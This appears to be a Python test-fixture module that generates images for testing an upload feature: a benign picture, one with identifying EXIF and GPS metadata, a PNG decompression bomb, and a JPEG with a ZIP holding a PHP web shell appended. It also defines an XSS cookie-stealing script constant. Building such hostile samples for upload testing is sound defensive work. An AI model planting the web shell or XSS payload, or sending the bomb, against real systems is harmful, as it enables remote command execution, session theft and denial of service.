"""Pictures to upload: as a camera would write them, and as somebody would who means no good."""

import zipfile
import zlib
from io import BytesIO
from typing import Any

from PIL import Image

SCRIPT = b"<script>alert(document.cookie)</script>"


def drawn(kind: str = "JPEG", size: tuple[int, int] = (900, 600), mode: str = "RGB", **options: Any) -> bytes:
    """A picture of the left half red and the right half blue."""
    image = Image.new("RGB", size, "blue")
    image.paste("red", (0, 0, size[0] // 2, size[1]))
    out = BytesIO()
    image.convert(mode).save(out, kind, **options)
    return out.getvalue()


def telling() -> bytes:
    """A picture that says who took it and where, and lies on its side."""
    exif = Image.Exif()
    exif[0x0112], exif[0x013B] = 6, "Alice of Lime Street"
    exif.get_ifd(0x8825)[2] = (53.0, 33.0, 2.0)
    return drawn(exif=exif, icc_profile=b"profile of a camera", comment=b"shot with love")


def bomb(side: int = 60_000) -> bytes:
    """A PNG of a few kilobytes that says it has 3,600 million pixels."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return len(content).to_bytes(4, "big") + name + content + zlib.crc32(name + content).to_bytes(4, "big")

    header = side.to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00"
    pixels = zlib.compress(bytes(1_000_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def with_archive() -> bytes:
    """A good picture with a ZIP archive behind it, as every ZIP reader would find."""
    behind = BytesIO(drawn())
    with zipfile.ZipFile(behind, "a") as archive:
        archive.writestr("run.php", "<?php system($_GET[0]);")
    return behind.getvalue()
